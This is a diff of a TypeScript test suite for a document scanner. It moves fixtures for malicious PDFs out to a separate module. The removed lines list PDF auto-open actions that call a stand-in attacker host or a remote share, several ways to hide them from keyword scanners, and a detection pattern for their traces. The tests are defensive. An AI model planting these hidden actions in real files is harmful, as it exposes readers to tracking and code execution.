@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import * as files from './files-for-test.ts';
+import { HIDDEN_ACTIONS, TRACES } from './hidden-actions-for-test.ts';
 import { type DocumentScanner, type DocumentType, documentTypeOf, type ScanRefusal } from './port.ts';
 
 const [JPEG, PNG, WEBP, PDF] = ['image/jpeg', 'image/png', 'image/webp', 'application/pdf'] as const;
@@ -82,45 +83,7 @@ const HIDDEN: readonly (readonly [...Case, hidden: RegExp])[] = [
   ['a page in a picture', WEBP, files.webpFile([files.losslessPicture(), ['XMP ', Buffer.from(page)]]), /<script>/],
 ];
 
-/** What a PDF does by itself, as a page on its way would see it, and what would be left of it in a kept file. */
-const ACTING: readonly (readonly [what: string, action: string])[] = [
-  ['runs a script', script],
-  ['opens a file of another computer', '<< /S /GoToR /F (\\\\192.0.2.1\\share\\a.pdf) /D [0 /Fit] >>'],
-  ['opens an address', '<< /S /URI /URI (https://attacker.example/seen) >>'],
-];
-const LEFT = /OpenAction|JavaScript|GoToR|URI|ObjStm|app\.alert|192\.0\.2\.1|attacker/;
-
-/** Ways in which a file hides what it does from readers that look for words. */
-const VEILS: readonly (readonly [how: string, file: (action: string) => Buffer])[] = [
-  ['openly', (action) => files.pdfFile([], { catalog: `/OpenAction ${action}` })],
-  ['in an object of its own', (action) => files.pdfFile([action], { catalog: '/OpenAction 5 0 R' })],
-  [
-    'among packed objects behind 2,000 letters',
-    (action) =>
-      files.pdfFile(
-        [files.packedObjects(`9 0 ${action}`).replace('/ObjStm', `/ObjStm /Padding (${'x'.repeat(3000)})`)],
-        {
-          catalog: '/OpenAction 9 0 R',
-        },
-      ),
-  ],
-  [
-    'behind an object that stands in a text',
-    (action) => files.pdfFile([], { catalog: `/Title (7 0 obj << >> endobj ) /OpenAction ${action}` }),
-  ],
-  [
-    'behind a stream that stands in a text',
-    (action) => files.pdfFile([], { catalog: `/Title (stream) /OpenAction ${action}`, page: '/Note (endstream)' }),
-  ],
-  [
-    'behind a stream that never ends',
-    (action) => files.pdfFile([`<< /Title (stream ) >>`, action], { catalog: '/OpenAction 6 0 R' }),
-  ],
-];
-
-const BYPASSES: readonly Case[] = ACTING.flatMap(([what, action]) =>
-  VEILS.map(([how, file]) => [`a PDF that ${what}, ${how}`, PDF, file(action)] as const),
-);
+const BYPASSES: readonly Case[] = HIDDEN_ACTIONS.map(([what, content]) => [what, PDF, content]);
 
 function changed(content: Buffer, at: number): Buffer {
   const copy = Buffer.from(content);
@@ -161,10 +124,10 @@ export function documentScannerSuite(name: string, open: () => DocumentScanner):
     test.each(BYPASSES)(
       'refuses %s, or keeps pictures of its pages and nothing else',
       async (_what, mediaType, content) => {
-        expect(content.toString('latin1')).toMatch(LEFT);
+        expect(content.toString('latin1')).toMatch(TRACES);
         const found = await scanner.scan({ content, mediaType });
         if (found.outcome !== 'clean') return expect(found.outcome).toBe('refused');
-        expect(found.content.toString('latin1')).not.toMatch(LEFT);
+        expect(found.content.toString('latin1')).not.toMatch(TRACES);
         expect(documentTypeOf(found.content)).toBe(PDF);
       },
       SCAN_MILLISECONDS_MAX,
